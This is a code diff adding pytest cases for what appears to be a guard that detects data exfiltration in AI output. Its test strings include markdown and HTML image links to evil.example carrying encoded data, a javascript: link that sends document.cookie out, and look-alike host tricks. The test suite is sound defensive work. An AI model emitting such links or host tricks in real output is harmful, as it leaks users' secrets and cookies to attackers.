@@ -68,3 +68,50 @@ def test_redaction_keeps_the_answer() -> None:
 def test_links_option(run_guard: Any) -> None:
     text = "[x](https://evil.example/?q=abcdefghijk)"
     assert run_guard("exfiltration", links=False)(text, "output") == []
+
+
+@pytest.mark.parametrize(
+    ("output", "entity"),
+    [
+        ("![chart][logo]\n\n[logo]: https://evil.example/c.png", "image"),
+        ("![Logo]\n\n[logo]: https://evil.example/c.png", "image"),
+        ('<img srcset="https://evil.example/t.gif 1x">', "image"),
+        ('<iframe src="https://evil.example/frame"></iframe>', "image"),
+        ("<https://evil.example/collect?d=QUtJQUlPU0ZPRE5ON0VYQU1QTEU>", "url"),
+        ("![x](HTTPS://evil.example/p.png)", "image"),
+        ("![x](https://evil.example/p_(1).png)", "image"),
+        ("![x](<https://evil.example/p.png?d=a b c>)", "image"),
+        ("[click](javascript:fetch('//evil.example/?c='+document.cookie))", "link"),
+        ("[x](JaVaScRiPt:alert(1))", "link"),
+        ('<a href="javascript:alert(1)">x</a>', "link"),
+        ("[x](data:text/html;base64,PHNjcmlwdD4=)", "link"),
+    ],
+)
+def test_more_channels(run_guard: Any, output: str, entity: str) -> None:
+    assert [f.entity for f in run_guard("exfiltration")(output, "output")] == [entity]
+
+
+def test_paths_with_parentheses_are_whole(run_guard: Any) -> None:
+    output = "![x](https://evil.example/p_(1).png?d=c2VjcmV0c2VjcmV0c2VjcmV0) end"
+    (found,) = run_guard("exfiltration")(output, "output")
+    assert output[found.start : found.end] == output[: -len(" end")]
+
+
+def test_hosts_are_compared_as_a_browser_resolves_them(run_guard: Any) -> None:
+    scan_ = run_guard("exfiltration", allowed_hosts=["acme.example", "bücher.example"])
+    # a Cyrillic look-alike is another host, although the normalised text folds it
+    assert scan_("![x](https://\u0430cme.example/p.png)", "output")
+    assert scan_("![x](https://xn--cme-8cd.example/p.png)", "output")
+    # a browser reads the backslash as a slash: the host is evil.test
+    assert scan_("![x](https://evil.test\\@acme.example/p.png)", "output")
+    # the same allowed host written in Unicode, punycode or full width
+    assert scan_("![x](https://xn--bcher-kva.example/p.png)", "output") == []
+    assert scan_("![x](https://BÜCHER.example/p.png)", "output") == []
+    assert scan_("![x](https://\uff41\uff43\uff4d\uff45.example/p.png)", "output") == []
+
+
+def test_inert_data_images_and_plain_html_links(run_guard: Any) -> None:
+    scan_ = run_guard("exfiltration")
+    assert scan_('<a href="https://docs.python.org/3/">docs</a>', "output") == []
+    assert scan_('<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">', "output") == []
+    assert scan_("[ref][r]\n\n[r]: https://docs.python.org/3/library/re.html", "output") == []
